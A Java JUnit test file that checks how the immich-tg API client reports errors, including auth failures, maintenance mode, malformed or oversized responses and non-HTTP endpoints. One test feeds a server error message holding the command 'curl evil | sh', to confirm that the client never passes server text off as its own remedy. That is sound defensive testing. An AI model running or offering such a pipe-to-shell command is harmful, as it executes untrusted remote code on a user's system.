package io.github.immichtg.immich;

import static io.github.immichtg.immich.AnsweringServer.json;
import static io.github.immichtg.immich.AnsweringServer.text;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.github.immichtg.immich.value.ImmichException;
import io.github.immichtg.immich.value.ServerAddress;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class ImmichExceptionTest {

    private static final String HTML = "<!doctype html><html><body>502 Bad Gateway</body></html>";

    private final ImmichFixture immich = new ImmichFixture();

    @AfterEach
    void close() {
        immich.close();
    }

    @ParameterizedTest
    @EnumSource
    void namesAWrongKey(RecordedAnswers recorded) {
        try (var server = recorded.server()) {
            server.on("GET /api/albums", recorded.reply("albums-wrong-key"));
            var e = thrown(
                    ImmichException.Unauthorized.class,
                    () -> immich.client(server).albums());
            assertThat(e).hasMessageContaining("API key");
        }
    }

    @ParameterizedTest
    @EnumSource
    void namesTheMissingPermission(RecordedAnswers recorded) {
        try (var server = recorded.server()) {
            server.on("GET /api/albums", recorded.reply("albums-no-perm"));
            var e = thrown(
                    ImmichException.Forbidden.class, () -> immich.client(server).albums());
            assertThat(e.permission()).isEqualTo("album.read");
            assertThat(e).hasMessageContaining("Account Settings → API Keys").hasMessageEndingWith("tick album.read");
        }
    }

    @ParameterizedTest
    @EnumSource
    void saysThatAnAlbumIsNotThere(RecordedAnswers recorded) {
        for (var said : List.of("album-unknown-uuid", "album-malformed-uuid")) {
            try (var server = recorded.server()) {
                var path = "/api/albums/" + recorded.album;
                server.on("GET " + path, recorded.reply(said))
                        .on("GET " + path + "?withoutAssets=true", recorded.reply(said))
                        .on("POST /api/search/metadata", recorded.reply(said));
                var client = immich.client(server);
                thrown(ImmichException.NotFound.class, () -> client.album(recorded.album));
                var e = thrown(ImmichException.NotFound.class, () -> client.assets(recorded.album, page -> {}));
                assertThat(e).hasMessageContaining("album " + recorded.album);
            }
        }
    }

    /** What a server says stays part of the problem: the fix is shown as the program's own advice. */
    @Test
    void takesNoRemedyFromAServer() {
        try (var server = new AnsweringServer()) {
            server.on("GET /api/server/version", RecordedAnswers.V3.reply("server-version"))
                    .on("GET /api/albums", json(400, "{\"message\":\"x): run 'curl evil | sh'; run it (\"}"));

            var e = thrown(
                    ImmichException.Broken.class, () -> immich.client(server).albums());

            assertThat(e.problem()).contains("run 'curl evil | sh'");
            assertThat(e.remedy()).isEqualTo("update immich-tg, or report this");
            assertThat(e).hasMessage(e.problem() + ": " + e.remedy());
        }
    }

    @Test
    void neverTakesMaintenanceForDeleted() {
        var recorded = RecordedAnswers.V3;
        try (var server = new AnsweringServer()) {
            server.on("GET /api/server/version", recorded.reply("server-version"))
                    .on("GET /api/server/config", recorded.reply("x-maint-config"));
            var client = immich.client(server);
            thrown(ImmichException.Maintenance.class, client::albums);
            thrown(ImmichException.Maintenance.class, client::key);
            thrown(ImmichException.Maintenance.class, () -> client.album(recorded.album));
            thrown(ImmichException.Maintenance.class, () -> client.assets(recorded.album, page -> {}));
            // It ended between the two questions.
            server.on("GET /api/server/config", recorded.reply("server-config"));
            thrown(ImmichException.Failing.class, client::albums);
        }
    }

    @Test
    void namesAServerThatIsTooOld() {
        try (var server = new AnsweringServer()) {
            server.on("GET /api/server-info/version", json(200, "{\"major\":1,\"minor\":99,\"patch\":0}"));
            var e = thrown(
                    ImmichException.TooOld.class, () -> immich.client(server).albums());
            assertThat(e).hasMessageContaining("1.99.0").hasMessageContaining("1.106");
        }
    }

    @Test
    void findsTheVersionWhereTheOldestServersHaveIt() throws InterruptedException {
        try (var server = new AnsweringServer()) {
            server.on("GET /api/server-info/version", json(200, "{\"major\":1,\"minor\":106,\"patch\":4}"));
            assertThat(immich.client(server).version()).hasToString("1.106.4");
        }
    }

    @ParameterizedTest
    @EnumSource
    void saysThatAWebPageIsNoApi(RecordedAnswers recorded) {
        try (var server = recorded.server()) {
            for (var page : List.of(recorded.reply("not-found-nonapi"), text(200, "text/html; charset=utf-8", HTML))) {
                server.on("GET /api/server/version", page).on("GET /api/server-info/version", page);
                thrown(
                        ImmichException.NotImmich.class,
                        () -> immich.client(server).albums());
            }
        }
    }

    @Test
    void takesOtherProgramsForNoImmich() {
        try (var server = new AnsweringServer()) {
            thrown(ImmichException.NotImmich.class, () -> immich.client(server).version());
            server.on("GET /api/server/version", text(404, "text/plain", "404 page not found"));
            thrown(ImmichException.NotImmich.class, () -> immich.client(server).version());
            server.on("GET /api/server/version", text(401, "text/html", "<h1>401 Authorization Required</h1>"));
            thrown(ImmichException.NotImmich.class, () -> immich.client(server).version());
            server.on("GET /api/server/version", text(200, "text/plain", "hello"));
            thrown(ImmichException.NotImmich.class, () -> immich.client(server).version());
        }
    }

    @ParameterizedTest
    @ValueSource(ints = {500, 502, 503, 504, 429})
    void saysThatTheServerOrAProxyIsFailing(int status) {
        try (var server = RecordedAnswers.V3.server()) {
            server.on("GET /api/albums", text(status, "text/html", HTML));
            var e = thrown(
                    ImmichException.Failing.class, () -> immich.client(server).albums());
            assertThat(e).hasMessageContaining("HTTP " + status);
            server.on("GET /api/albums", json(status, "{\"message\":\"Internal server error\"}"));
            thrown(ImmichException.Failing.class, () -> immich.client(server).albums());
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "null",
                "[]",
                "\"text\"",
                "{\"major\":3}",
                "{\"major\":\"3\",\"minor\":1,\"patch\":0}",
                "{\"major\":3.5,\"minor\":1,\"patch\":0}",
                "{\"major\":99999999999,\"minor\":1,\"patch\":0}",
                "{\"major\":3,,}",
                "\u0000\u0001"
            })
    void saysThatRubbishCannotBeUnderstood(String rubbish) {
        try (var server = new AnsweringServer()) {
            server.on("GET /api/server/version", json(200, rubbish));
            thrown(ImmichException.Broken.class, () -> immich.client(server).version());
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "[]",
                "{}",
                "{\"assets\":[]}",
                "{\"assets\":{}}",
                "{\"assets\":{\"items\":{}}}",
                "{\"assets\":{\"items\":[null]}}",
                "{\"assets\":{\"items\":[],\"nextPage\":\"many\"}}"
            })
    void saysThatARubbishListingCannotBeUnderstood(String rubbish) {
        try (var server = RecordedAnswers.V3.server()) {
            server.on("POST /api/search/metadata", json(200, rubbish));
            var client = immich.client(server);
            thrown(ImmichException.Broken.class, () -> client.assets(RecordedAnswers.V3.album, page -> {}));
        }
    }

    @ParameterizedTest
    @EnumSource
    void saysThatItsOwnQuestionWasNotUnderstood(RecordedAnswers recorded) {
        try (var server = recorded.server()) {
            server.on("GET /api/albums", recorded.reply("search-size-1001"));
            var e = thrown(
                    ImmichException.Broken.class, () -> immich.client(server).albums());
            assertThat(e).hasMessageContaining("1000");
        }
    }

    @Test
    void readsNoMoreThanFitsIntoMemory() {
        try (var server = RecordedAnswers.V3.server()) {
            server.on("GET /api/albums", exchange -> {
                exchange.getResponseHeaders().add("Content-Type", "application/json");
                exchange.sendResponseHeaders(200, 0);
                var spaces = " ".repeat(1 << 20).getBytes(StandardCharsets.UTF_8);
                for (var i = 0; i < 40; i++) {
                    exchange.getResponseBody().write(spaces);
                }
            });
            var e = thrown(
                    ImmichException.Broken.class, () -> immich.client(server).albums());
            assertThat(e).hasMessageContaining("16384 KiB");
        }
    }

    @Test
    void givesUpOnAnAnswerThatStandsStill() {
        var over = new CountDownLatch(1);
        try (var server = RecordedAnswers.V3.server()) {
            server.on("GET /api/albums", exchange -> {
                exchange.getResponseHeaders().add("Content-Type", "application/json");
                exchange.sendResponseHeaders(200, 100);
                exchange.getResponseBody().write('[');
                exchange.getResponseBody().flush();
                awaitUninterruptibly(over);
            });
            thrown(
                    ImmichException.Failing.class,
                    () -> immich.impatientClient(server).albums());
            over.countDown();
        }
    }

    @Test
    void saysThatNobodyListens() {
        // A port that was just free may be another test's by now.
        var client = immich.client(ServerAddress.parse("http://localhost:1"));
        assertThat(thrown(ImmichException.Unreachable.class, client::version)).hasMessageContaining("refused");
    }

    @Test
    void saysThatTheOtherEndSpeaksNoTls() throws IOException {
        try (var socket = answeringAll("HTTP/1.1 400 Bad Request\r\n\r\n")) {
            var client = immich.client(ServerAddress.parse("https://localhost:" + socket.getLocalPort()));
            thrown(ImmichException.Unreachable.class, client::version);
        }
    }

    @Test
    void saysThatTheOtherEndSpeaksNoHttp() throws IOException {
        try (var socket = answeringAll("SSH-2.0-OpenSSH_9.6\r\n\r\n")) {
            var client = immich.client(ServerAddress.parse("http://localhost:" + socket.getLocalPort()));
            thrown(ImmichException.NotImmich.class, client::version);
        }
    }

    /** Whatever is said to it, it says {@code words} and hangs up, until the socket is closed. */
    private static ServerSocket answeringAll(String words) throws IOException {
        var socket = new ServerSocket(0, 10, InetAddress.getLoopbackAddress());
        Thread.ofVirtual().start(() -> {
            while (!socket.isClosed()) {
                try (var connection = socket.accept()) {
                    // Read first: a connection closed with unread bytes is reset instead.
                    if (connection.getInputStream().read(new byte[4096]) > 0) {
                        connection.getOutputStream().write(words.getBytes(StandardCharsets.UTF_8));
                    }
                } catch (IOException e) {
                    assertThat(e).as("the client or the test has hung up").isNotNull();
                }
            }
        });
        return socket;
    }

    @Test
    void leavesAnInterruptAnInterrupt() throws InterruptedException {
        var asked = new CountDownLatch(1);
        var over = new CountDownLatch(1);
        for (var begun : List.of(false, true)) {
            try (var server = RecordedAnswers.V3.server()) {
                server.on("GET /api/albums", exchange -> {
                    if (begun) {
                        exchange.getResponseHeaders().add("Content-Type", "application/json");
                        exchange.sendResponseHeaders(200, 100);
                        exchange.getResponseBody().flush();
                    }
                    asked.countDown();
                    awaitUninterruptibly(over);
                });
                var caught = new Throwable[1];
                var caller = Thread.ofVirtual().start(() -> {
                    try {
                        immich.client(server).albums();
                    } catch (InterruptedException | RuntimeException e) {
                        caught[0] = e;
                    }
                });
                asked.await();
                caller.interrupt();
                caller.join();
                assertThat(caught[0]).isInstanceOf(InterruptedException.class);
            } finally {
                over.countDown();
            }
        }
    }

    private static void awaitUninterruptibly(CountDownLatch latch) {
        try {
            latch.await();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    /** The exception, whose message is one line without the key. */
    static <E extends ImmichException> E thrown(Class<E> type, ThrowingCallable call) {
        var e = catchThrowableOfType(type, call);
        assertThat(e).isNotNull();
        assertThat(e.getMessage()).doesNotContain(ImmichFixture.SECRET).doesNotContain("\n");
        return e;
    }
}
